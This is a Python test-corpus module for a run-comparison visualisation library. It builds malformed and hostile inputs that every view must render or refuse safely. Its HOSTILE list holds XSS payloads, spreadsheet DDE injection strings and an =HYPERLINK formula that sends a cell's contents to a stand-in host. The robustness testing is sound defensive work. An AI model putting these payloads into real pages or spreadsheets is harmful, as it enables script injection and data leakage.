"""The reliability corpus (issue #20): bad, hostile and oversized inputs that every view and every
entry point must either draw or refuse with the contract's message, never crash on.

A case is the example tables below with one thing changed. Each view takes from a case what it
reads (``view_call``): a case that breaks the runs is refused by every view, one that breaks the
scalars by the views that read them, so a view of runs added to the list of views inherits every
case (``VIEWS``: the views of runs, scalars and details; samples, plots and logs read tables of
their own, which their own tests break).
``error`` is the exact message a view that reads the broken table gives, in Python and in the
browser alike (``errors`` overrides it per view). The bad tables of tests/contract/*.json, the
project's own corpus, are cases too.

Used by tests/python/test_corpus.py (Python's entry points) and, through ``python -m corpus``
(__main__.py), by tests/browser/corpus.spec.js (every view in Chromium, with every export).
"""

import datetime
import decimal
import inspect
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Dict, Optional

import numpy as np
import pandas as pd
import pyarrow as pa
from runcompare._display import view_payload
from runcompare._views import VIEWS as ALL_VIEWS

CONTRACT = Path(__file__).parent.parent / "contract"

# Fifteen strings that break something when written as HTML, SVG (XML), CSV, a spreadsheet cell,
# a JSON or lookup key, or a path; used as run ids, names, tags, param values, column names and
# metric names.
HOSTILE = [
    '<img src=x onerror="window.__xss=1">',
    "</script><script>window.__xss=2</script>",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "a\x00b",
    "\x000",
    "constructor",
    "__proto__",
    "x\x01\x08\x0b\x1f\ufffe\uffff",
    "\u202eevil\u202c 👩‍👩‍👧 实验 تجربة",
    'say "hi", then\r\nleave/a/../b',
]


# The views whose first table is the runs, the scalars or the diff's data, with their functions.
def _payload(view):
    """What the view of that name sends (its tables, options and note), as a function taking its
    function's arguments (rc.parallel's, ...)."""

    def payload(data, **options):
        return view_payload(data, view, "drawn", options)

    payload.__signature__ = inspect.signature(ALL_VIEWS[view].function)
    return payload


VIEWS = {view: _payload(view) for view, spec in ALL_VIEWS.items() if spec.data["name"] in ("runs", "scalars", "data")}

RUN_IDS = ["r1", "r2", "r3", "r4"]
STEPS = 5


def base_runs(run_ids=RUN_IDS):
    """A small sweep: a param of each kind, a metric, a tag and a start time."""
    return [
        {
            "run_id": run_id,
            "name": f"run {i}",
            "params.lr": 10.0 ** -(i + 1),
            "params.optimizer": ["adam", "sgd"][i % 2],
            "params.batch": 32 * (i + 1),
            "metrics.acc": 0.5 + i / 10,
            "tags.note": f"note {i}",
            "start_time": datetime.datetime(2024, 3, 1, 12, i, tzinfo=datetime.timezone.utc),
        }
        for i, run_id in enumerate(run_ids)
    ]


def base_scalars(run_ids=RUN_IDS):
    """Each run's loss (train and validation) and accuracy over five steps, with times in seconds."""
    rows = []
    for i, run_id in enumerate(run_ids):
        for step in range(STEPS):
            time = 1_709_294_400.0 + 60 * i + step
            for metric, variant, value in (("loss", "train", 1 / (step + i + 1)), ("loss", "validation", 1.1 / (step + i + 1)), ("acc", None, 0.5 + step / 20)):
                rows.append({"run_id": run_id, "metric": metric, "variant": variant, "step": step, "time": time, "value": value})
    return rows


@dataclass
class Case:
    name: str
    # Each builds a fresh table: records, a pyarrow Table, a pandas DataFrame, a dict of configs.
    runs: Callable = base_runs
    # None: the example scalars of the runs' ids.
    scalars: Optional[Callable] = None
    # For the diff; None compares the runs table's columns.
    details: Optional[Callable] = None
    # Python keyword arguments per view, and the view options the browser gets with the broken
    # table when Python refuses it (the TypeScript names; by default the same).
    options: Dict[str, Dict] = field(default_factory=dict)
    js_options: Optional[Dict[str, Dict]] = None
    # Which table is broken ("runs", "scalars" or "details") and the message of every view that
    # reads it; None: every view draws.
    broken: Optional[str] = None
    error: Optional[str] = None
    # Per-view messages (None: that view draws) where a view says other than `error`.
    errors: Dict[str, Optional[str]] = field(default_factory=dict)
    # How the browser gets the broken table when Python refuses it: "records" (the records as an
    # Observable page passes them), "arrow" (the table as Arrow IPC bytes, written by pyarrow
    # without runcompare's checks), or None (Python objects no page can pass: ints beyond 64 bits,
    # dicts that hold themselves). Where Python accepts, the browser gets what Python sends.
    browser: Optional[str] = "records"
    # Where the browser, given the broken table as Arrow, says other than Python raised (view: message
    # or None); elsewhere it must show Python's message.
    browser_errors: Dict[str, Optional[str]] = field(default_factory=dict)
    # A text each view that draws must show, or say above itself (notes).
    note: Dict[str, str] = field(default_factory=dict)
    # The rows each view's CSV must hold, where a case is about data not being lost.
    csv_rows: Dict[str, int] = field(default_factory=dict)
    # Why the case does not hold yet: the issue that will make it hold.
    pending: Optional[str] = None
    # Whether the loaders (rc.read_runs of the tables written as Arrow files) read it as Python does.
    loaders: bool = True
    # Whether views that take scalars as an option get them (views drawn from scalars always do).
    with_scalars: bool = True
    # The views a case is about, where it concerns one view's limit (None: every view).
    views: Optional[tuple] = None
    # Whether the browser makes each view's PNG too: for characters XML forbids and sizes a canvas
    # may not hold. Elsewhere the SVG it is drawn from is checked, which keeps the suite fast.
    png: bool = False

    def expected(self, view):
        """The message `view` gives for this case in Python, or None when it draws."""
        if view in self.errors:
            return self.errors[view]
        return self.error if self.broken in reads(view) else None

    def scalars_table(self):
        return self.scalars() if self.scalars else base_scalars(run_ids_of(self.runs()))


def run_ids_of(runs):
    """The run ids of a runs table of any kind, as text; the example ids when it has none to read."""
    try:
        if isinstance(runs, list):
            ids = [record.get("run_id") for record in runs]
        elif isinstance(runs, pa.Table):
            ids = runs.column("run_id").to_pylist()
        else:
            ids = list(runs["run_id"])
    except (KeyError, AttributeError, OverflowError):
        # No run_id column, or one pyarrow cannot give as Python values (times beyond datetime's years).
        return RUN_IDS
    ids = [id_text(run_id) for run_id in ids if isinstance(run_id, (str, int, float)) and run_id == run_id]
    return list(dict.fromkeys(ids)) or RUN_IDS


def id_text(run_id):
    """A run id as the views make it text: true, 17 (not 17.0), 2.5."""
    if isinstance(run_id, bool):
        return "true" if run_id else "false"
    if isinstance(run_id, float) and run_id.is_integer():
        return str(int(run_id))
    return str(run_id)


def reads(view):
    """The tables a view reads: the diff reads the details (the runs table when given none)."""
    return {"details", "runs"} if view == "diff" else {"runs", "scalars"}


def view_tables(view, function, case):
    """The tables a view's function takes for a case, first its first parameter's ("runs",
    "scalars", or the diff's "data"), then runs= or scalars= where it has that parameter; and its
    other keyword arguments."""
    parameters = list(inspect.signature(function).parameters)
    builders = {"runs": case.runs, "scalars": case.scalars_table, "data": lambda: case.details() if case.details else case.runs()}
    first = parameters[0]
    given = ("runs", "scalars") if case.with_scalars else ("runs",)
    others = [name for name in given if first != "data" and name in parameters[1:] and name != first]
    return {name: builders[name]() for name in [first, *others]}, case.options.get(view, {})


def view_call(view, function, case):
    """The positional and keyword arguments of a view's function for a case (see view_tables)."""
    tables, options = view_tables(view, function, case)
    first = next(iter(tables))
    return [tables.pop(first)], {**tables, **options}


# --- builders -------------------------------------------------------------------------------


def runs_with(**columns):
    """The example runs as a pyarrow Table with more columns (pyarrow arrays of four values)."""
    table = pa.Table.from_pylist(base_runs())
    for name, array in columns.items():
        table = table.append_column(name, array)
    return table


def scalars_with(**columns):
    """The example scalars as a pyarrow Table with columns replaced or added (arrays of 60 values)."""
    table = pa.Table.from_pylist(base_scalars())
    for name, array in columns.items():
        table = table.set_column(table.column_names.index(name), name, array) if name in table.column_names else table.append_column(name, array)
    return table


def records_with(records, **changes):
    return [{**record, **changes} for record in records]


def nested(depth):
    tree = {"leaf": 1}
    for _ in range(depth):
        tree = {"k": tree}
    return tree


def holding_itself():
    config = {"lr": 0.1}
    config["self"] = config
    return config


def list_holding_itself():
    items = [1]
    items.append(items)
    return {"layers": items}


def hostile_runs():
    """A run per hostile string: as its id, its name, a tag, a param value and a param's name."""
    return [
        {"run_id": text, "name": text, "tags.note": text, "params.choice": text, f"params.{text}": i, "metrics.acc": i / 10} for i, text in enumerate(HOSTILE)
    ]


def hostile_scalars():
    """Each hostile run reports a metric named by its string, with the next string as variant."""
    return [
        {"run_id": text, "metric": text, "variant": HOSTILE[(i + 1) % len(HOSTILE)], "step": step, "value": i + step / 10}
        for i, text in enumerate(HOSTILE)
        for step in range(3)
    ]


def hostile_details():
    return {text: {text: text, "section": {text: HOSTILE[(i + 1) % len(HOSTILE)]}, "code": f"print({text!r})"} for i, text in enumerate(HOSTILE)}


def far_time(column, row):
    return f'column "{column}" holds a time beyond the dates a browser can show (years -271821 to 275760) at row {row}: correct it or drop the column.'


def big_integer(column, value):
    return (
        f'column "{column}" holds the integer {value}, beyond the 64-bit integers runcompare reads '
        "(-9223372036854775808 to 9223372036854775807): convert the column to floats, or to text if it holds ids."
    )


def too_deep(run_id):
    return f'the fields of run "{run_id}" nest deeper than 100 levels, or contain themselves: pass a flatter config.'


def not_unicode(column):
    return f'column "{column}" holds text that is not Unicode (a lone surrogate, U+D800): decode the text with errors="replace", or drop the column.'


RUNS_EMPTY = "runs table is empty: pass at least one run (one row per run)."
# The diff reads a runs table as its details (one row per field of each run).
DETAILS_EMPTY = "details table is empty: pass at least one row (run_id, path, value)."
NO_SCALARS_RUNS = 'no scalars belong to the runs: the scalars have run ids such as "x1", the runs table "r1"; pass the scalars of these runs.'
# The views with a height option, which their schemas limit (schema/views/<view>.json).
SIZED = ("parallel", "scatter", "summary", "diff", "scalars", "table")

CASES = [
    # --- what Python could not read (raw exceptions once) ---------------------------------
    Case(
        "uint64 beyond int64 in a metric",
        runs=lambda: runs_with(**{"metrics.hash": pa.array([2**64 - 1, 1, 2, 3], pa.uint64())}),
        broken="runs",
        error=big_integer("metrics.hash", 2**64 - 1),
        browser="arrow",
        # The view reads Arrow's uint64 as doubles, as it reads every integer (scalars-read.test.ts).
        browser_errors={view: None for view in ("parallel", "scatter", "values", "summary", "influence", "diff", "scalars", "table", "compare")},
    ),
    Case(
        "uint64 steps beyond int64",
        scalars=lambda: scalars_with(step=pa.array([2**64 - 1] + [1] * 59, pa.uint64())),
        broken="scalars",
        error=big_integer("step", 2**64 - 1),
        browser="arrow",
        browser_errors={view: None for view in ("parallel", "scatter", "values", "summary", "influence", "scalars", "table", "compare")},
    ),
    Case(
        "a Python int beyond int64 in records",
        runs=lambda: records_with(base_runs(), **{"params.seed": 2**70}),
        broken="runs",
        error=big_integer("params.seed", 2**70),
        browser=None,
    ),
    Case(
        "a Python int beyond int64 in a pandas object column",
        runs=lambda: pd.DataFrame(base_runs()).assign(**{"params.seed": [2**70, 1, 2, 3]}),
        broken="runs",
        error=big_integer("params.seed", 2**70),
        browser=None,
    ),
    Case("steps near 2**63, summarised", scalars=lambda: scalars_with(step=pa.array([2**63 - 1 - i for i in range(60)], pa.int64()))),
    Case(
        "integer times in nanoseconds, beyond 2**53",
        scalars=lambda: scalars_with(time=pa.array([1_709_294_400_000_000_001 + i for i in range(60)], pa.int64())),
    ),
    Case("values beyond 2**53 as int64", scalars=lambda: scalars_with(value=pa.array([2**62 + i for i in range(60)], pa.int64()))),
    Case("a config nested 3,000 deep", details=lambda: {"r1": nested(3000), "r2": {"lr": 1}}, broken="details", error=too_deep("r1"), browser=None),
    Case("a config holding itself", details=lambda: {"r1": holding_itself(), "r2": {"lr": 1}}, broken="details", error=too_deep("r1"), browser=None),
    Case("a config list holding itself", details=lambda: {"r1": list_holding_itself(), "r2": {"lr": 1}}, broken="details", error=too_deep("r1"), browser=None),
    Case("a name with a lone surrogate", runs=lambda: records_with(base_runs(), name="\ud800"), broken="runs", error=not_unicode("name"), browser=None),
    Case(
        "a column name with a lone surrogate",
        runs=lambda: records_with(base_runs(), **{"params.\ud800": 1}),
        broken="runs",
        error='the column name "params.\\ud800" is not Unicode (a lone surrogate, U+D800): rename the column.',
        browser=None,
    ),
    Case("a config key with a lone surrogate", details=lambda: {"r1": {"\ud800": 1}}, broken="details", error=not_unicode("path"), browser=None),
    # --- what Python accepted and the view refused ------------------------------------------
    Case(
        "times beyond the Date range (2**62 ms)",
        runs=lambda: runs_with(end_time=pa.array([2**62, 0, 1, 2], pa.timestamp("ms"))),
        broken="runs",
        error=far_time("end_time", 0),
        browser="arrow",
    ),
    Case(
        "a date32 in the year 5,800,000",
        runs=lambda: runs_with(**{"params.day": pa.array([2**31 - 1, 0, 1, 2], pa.date32())}),
        broken="runs",
        error=far_time("params.day", 0),
        browser="arrow",
    ),
    Case(
        "scalars times beyond the Date range",
        scalars=lambda: scalars_with(time=pa.array([2**62] * 60, pa.timestamp("ms"))),
        broken="scalars",
        error=far_time("time", 0),
        browser="arrow",
    ),
    Case(
        "scalars times of 1e300 seconds",
        scalars=lambda: [{**row, "time": 1e300} if i == 7 else row for i, row in enumerate(base_scalars())],
        broken="scalars",
        error=far_time("time", 7),
        browser="arrow",
    ),
    Case(
        "a run id that is a time beyond the Date range",
        runs=lambda: pa.table({"run_id": pa.array([2**62, 0], pa.timestamp("ms")), "params.x": [1, 2]}),
        broken="runs",
        error=far_time("run_id", 0),
        browser="arrow",
    ),
    Case("timestamps in 1677 (the first nanosecond)", runs=lambda: runs_with(end_time=pa.array([-(2**63) + 1, 0, 1, 2], pa.timestamp("ns")))),
    Case(
        "decimal128 metric", runs=lambda: runs_with(**{"metrics.d": pa.array([decimal.Decimal("1.5"), None, decimal.Decimal("-2.25"), 3], pa.decimal128(5, 2))})
    ),
    Case("decimal256 param", runs=lambda: runs_with(**{"params.d": pa.array([decimal.Decimal("1e30"), 1, 2, 3], pa.decimal256(40, 0))})),
    Case("decimal steps and values", scalars=lambda: scalars_with(step=pa.array([decimal.Decimal(i % 5) for i in range(60)], pa.decimal128(3, 0)))),
    Case(
        "a details value column of decimals",
        details=lambda: pa.table({"run_id": ["r1", "r2"], "path": ["x", "x"], "value": pa.array([1, 2], pa.decimal128(3, 0))}),
    ),
    Case("float16 metric", runs=lambda: runs_with(**{"metrics.h": pa.array(np.array([1.5, 2.5, np.nan, 4], np.float16))})),
    Case(
        "metric names with line breaks, asked for by name",
        scalars=lambda: [{**row, "metric": "lo\rs\ns"} if row["metric"] == "loss" else row for row in base_scalars()],
        options={"parallel": {"metrics": ["lo\rs\ns/train:min"]}, "scatter": {"y": "lo\rs\ns/train:min"}, "summary": {"metrics": ["lo\rs\ns/validation:max"]}},
    ),
    Case(
        "text numbers wrapped in JavaScript's whitespace",
        runs=lambda: records_with(base_runs(), **{"metrics.bom": "\ufeff5", "params.nbsp": "\xa01e-3\u3000"}),
    ),
    Case(
        "a text metric with a unit separator, which JavaScript does not trim",
        runs=lambda: records_with(base_runs(), **{"metrics.sep": "\x1f5"}),
        broken="runs",
        error='column "metrics.sep" holds strings such as "\\u001f5": metrics.* columns must be numbers; move these values to a tags.* column.',
    ),
    Case(
        "an empty table with columns",
        runs=lambda: pa.table({"run_id": pa.array([], pa.string()), "params.x": pa.array([], pa.int64())}),
        broken="runs",
        error=RUNS_EMPTY,
        errors={"diff": DETAILS_EMPTY},
        browser="arrow",
    ),
    Case("an Arrow table with no columns", runs=lambda: pa.table({}), broken="runs", error=RUNS_EMPTY, errors={"diff": DETAILS_EMPTY}, browser="arrow"),
    # --- keys made of data ------------------------------------------------------------------
    Case(
        "config keys of NUL bytes and digits",
        details=lambda: {run: {"a": {"x": i}, "\x000": i, "\x001": i + 1, "a/\x000": i, "\x00": -i} for i, run in enumerate(RUN_IDS)},
        csv_rows={"diff": 5},
        png=True,
    ),
    Case(
        "a run and a metric whose names share a NUL",
        runs=lambda: base_runs(["a\x00b", "b"]),
        scalars=lambda: (
            [{"run_id": "a\x00b", "metric": "loss", "step": s, "value": s} for s in range(3)]
            + [{"run_id": "b", "metric": "loss\x00a", "step": s, "value": -s} for s in range(3)]
        ),
        csv_rows={"scalars": 6},
        png=True,
    ),
    Case(
        "a category named as the other slot, among many",
        runs=lambda: [{"run_id": f"r{i}", "params.c": ["\x00other", "\x00other\x00"][i % 2] if i < 40 else f"v{i}", "metrics.m": i} for i in range(100)],
    ),
    Case(
        "columns named as Object.prototype's members",
        runs=lambda: records_with(base_runs(), constructor="c", __proto__="p", toString="t", hasOwnProperty="h", **{"params.valueOf": 1}),
    ),
    # --- hostile strings --------------------------------------------------------------------
    Case("hostile strings as ids, names, tags, params, columns and metrics", runs=hostile_runs, scalars=hostile_scalars, details=hostile_details, png=True),
    Case("hostile strings as a runs table's diff", runs=hostile_runs, scalars=hostile_scalars, png=True),
    Case(
        "names 100,000 characters long, and right to left",
        runs=lambda: [{**run, "name": "ر" * 100_000 if i else "x" * 100_000} for i, run in enumerate(base_runs())],
        png=True,
    ),
    Case("every run with the same name", runs=lambda: records_with(base_runs(), name="Run_0")),
    Case("empty names", runs=lambda: records_with(base_runs(), name="")),
    # --- duplicates and gaps ----------------------------------------------------------------
    Case(
        "reports repeating a step",
        scalars=lambda: base_scalars() + [{**row, "value": row["value"] + 1} for row in base_scalars()[:6]],
        note={"scalars": "6 reports repeat a step already reported for its run and series"},
    ),
    Case(
        "reports without a time, on a wall-clock axis",
        scalars=lambda: [{**row, "time": None} if row["step"] == 2 else row for row in base_scalars()],
        options={"scalars": {"x": "wall"}},
    ),
    Case(
        "one run with times, on a relative axis",
        scalars=lambda: [{**row, "time": row["time"] if row["run_id"] == "r1" else None} for row in base_scalars()],
        options={"scalars": {"x": "relative"}},
    ),
    Case(
        "NaN and infinite values everywhere",
        runs=lambda: records_with(base_runs(), **{"metrics.acc": float("nan"), "params.lr": float("inf")}),
        scalars=lambda: [{**row, "value": [float("nan"), float("inf"), -float("inf"), 1.0][i % 4]} for i, row in enumerate(base_scalars())],
    ),
    Case(
        "an all-missing metric and variant",
        runs=lambda: records_with(base_runs(), **{"metrics.none": None}),
        scalars=lambda: [{**row, "variant": None} for row in base_scalars() if row["metric"] == "acc"],
    ),
    # --- odd but legal types ----------------------------------------------------------------
    Case(
        "lists, structs and maps as params",
        runs=lambda: runs_with(
            **{
                "params.layers": pa.array([[64, 64], [128], [], None]),
                "params.cfg": pa.array([{"a": {"b": [i]}} for i in range(4)]),
                "params.map": pa.array([[("a", 1)]] * 4, pa.map_(pa.string(), pa.int64())),
            }
        ),
    ),
    Case(
        "a union column",
        runs=lambda: runs_with(
            **{"params.u": pa.UnionArray.from_sparse(pa.array([0, 1, 0, 1], pa.int8()), [pa.array([1, 2, 3, 4]), pa.array(["a", "b", "c", "d"])])}
        ),
        loaders=False,
    ),
    Case(
        "durations, times of day and dates",
        runs=lambda: runs_with(
            **{
                "params.d": pa.array([1, 2, 3, 4], pa.duration("s")),
                "params.t": pa.array([1, 2, 3, 4], pa.time32("s")),
                "params.day": pa.array([datetime.date(2020, 1, i + 1) for i in range(4)]),
            }
        ),
    ),
    Case(
        "dictionary-encoded params with int8 indices and nulls",
        runs=lambda: runs_with(**{"params.c": pa.DictionaryArray.from_arrays(pa.array([0, 1, None, 0], pa.int8()), pa.array(["a", "b"]))}),
    ),
    Case("tags as lists of text", runs=lambda: runs_with(tags=pa.array([["x", "y"], [], None, ["<b>"]]))),
    Case("run ids as uint64 within int64", runs=lambda: runs_with().set_column(0, "run_id", pa.array([1, 2, 3, 4], pa.uint64()))),
    # --- size limits said in words ----------------------------------------------------------
    Case(
        "a diff of 1,001 runs",
        runs=lambda: [{"run_id": f"r{i}", "params.x": i} for i in range(1001)],
        errors={"diff": "the diff shows at most 1,000 runs side by side, and 1,001 are asked for: choose the runs to compare with runs (a list of run ids)."},
        views=("diff",),
    ),
    Case("a diff of 1,000 runs", runs=lambda: [{"run_id": f"r{i}", "params.x": i} for i in range(1000)], views=("diff",), png=True),
    # --- option values the views' schemas refuse ---------------------------------------------
    *[
        Case(
            f"height {label}",
            options={view: {"height": value} for view in SIZED},
            errors={view: f"height must be a number from 40 to 4000; got {got}." for view in SIZED},
            browser=None,
            views=SIZED,
        )
        for label, value, got in (("NaN", float("nan"), "NaN"), ("10**9", 10**9, "1000000000"), ("'<b>'", "<b>", '"<b>"'), ("-1", -1, "-1"))
    ],
    Case(
        "scalars of runs the runs table lacks",
        scalars=lambda: [{"run_id": "x1", "metric": "m", "step": 1, "value": 1.0}],
        broken="scalars",
        error=NO_SCALARS_RUNS,
    ),
]


def contract_cases():
    """The bad tables of tests/contract/*.json (the project's own corpus), as cases."""
    load = lambda name: json.loads((CONTRACT / name).read_text(encoding="utf-8"))  # noqa: E731
    cases = []
    for table, file in (("runs", "cases.json"), ("scalars", "scalars_cases.json"), ("details", "details_cases.json")):
        for case in load(file)["cases"]:
            records = case["records"]
            builder = lambda records=records: [dict(record) for record in records]  # noqa: E731
            diff = {"diff": DETAILS_EMPTY} if case["error"] == RUNS_EMPTY else {}
            cases.append(Case(f"{file}: {case['case']}", **{table: builder}, broken=table, error=case["error"], errors=diff))
    for case in load("cases.json")["notes"]:
        cases.append(Case(f"cases.json: {case['case']}", runs=lambda records=case["records"]: [dict(r) for r in records], note={"parallel": case["note"]}))
    for case in load("view_cases.json")["cases"]:
        view = case["view"]
        cases.append(
            Case(
                f"view_cases.json: {case['case']}",
                runs=lambda records=case["records"]: [dict(r) for r in records],
                options={view: case["options"]},
                errors={view: case["error"]},
            )
        )
    tables = load("table_cases.json")
    for case in tables["cases"]:
        cases.append(
            Case(
                f"table_cases.json: {case['case']}",
                runs=lambda: [dict(r) for r in tables["runs"]],
                scalars=lambda: [dict(r) for r in tables["scalars"]],
                options={"table": case["python"]},
                js_options={"table": case["options"]},
                # Python names an option as Python spells it (top_k), the view as TypeScript does.
                errors={"table": case.get("pythonError", case["error"])},
                browser_errors={"table": case["error"]},
                with_scalars=case.get("withScalars", False),
            )
        )
    return cases


ALL_CASES = CASES + contract_cases()
